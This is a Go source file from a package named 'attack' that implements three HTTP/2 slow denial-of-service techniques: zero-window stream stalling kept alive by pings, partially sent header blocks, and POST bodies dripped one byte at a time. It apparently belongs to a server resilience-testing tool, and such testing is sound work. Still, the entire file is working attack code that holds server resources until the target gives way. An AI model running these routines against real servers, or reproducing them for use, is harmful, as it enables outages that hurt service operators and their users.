package attack

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// ZeroWindow asks for t.Path many times and opens no window for the answers, so
// that each stream stalls; pings keep the connection from looking idle. It goes
// on until the server or ctx ends it. Unit: a request; default 50.
func ZeroWindow(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(50)
	settings := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	return t.overH2(ctx, true, settings, func(h *h2, s *Stats) error {
		for range t.Limit {
			if _, err := h.open("GET", true); err != nil {
				return err
			}
			s.Sent++
		}
		return h.tick(ctx, func() error { return h.framer.WritePing(false, [8]byte{}) })
	})
}

// HeldHeaders begins a header block, sends a third of it, and waits. It goes on
// until the server or ctx ends it. Unit: a request. (security G9)
func HeldHeaders(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(1)
	return t.overH2(ctx, true, nil, func(h *h2, s *Stats) error {
		block := h.head("GET")
		s.Sent++
		return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:len(block)/3], EndStream: true})
	})
}

// DrippedData opens t.Limit POSTs and sends a byte of body on the next of them every
// t.Every, never the end. It goes on until the server or ctx ends it. Unit: a byte.
func DrippedData(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(10)
	return t.overH2(ctx, true, nil, func(h *h2, s *Stats) error {
		for range t.Limit {
			if _, err := h.open("POST", false); err != nil {
				return err
			}
		}
		return h.tick(ctx, func() error {
			id := uint32(1 + 2*(s.Sent%t.Limit))
			s.Sent++
			return h.framer.WriteData(id, false, []byte{'a'})
		})
	})
}

// tick calls send every t.Every until the server or ctx ends the connection.
func (h *h2) tick(ctx context.Context, send func() error) error {
	tick := time.NewTicker(h.target.Every)
	defer tick.Stop()
	for {
		if err := h.out.Flush(); err != nil {
			<-h.closed
			return err
		}
		select {
		case <-ctx.Done():
			return nil
		case <-h.closed:
			return nil
		case <-tick.C:
		}
		if err := send(); err != nil {
			<-h.closed
			return err
		}
	}
}
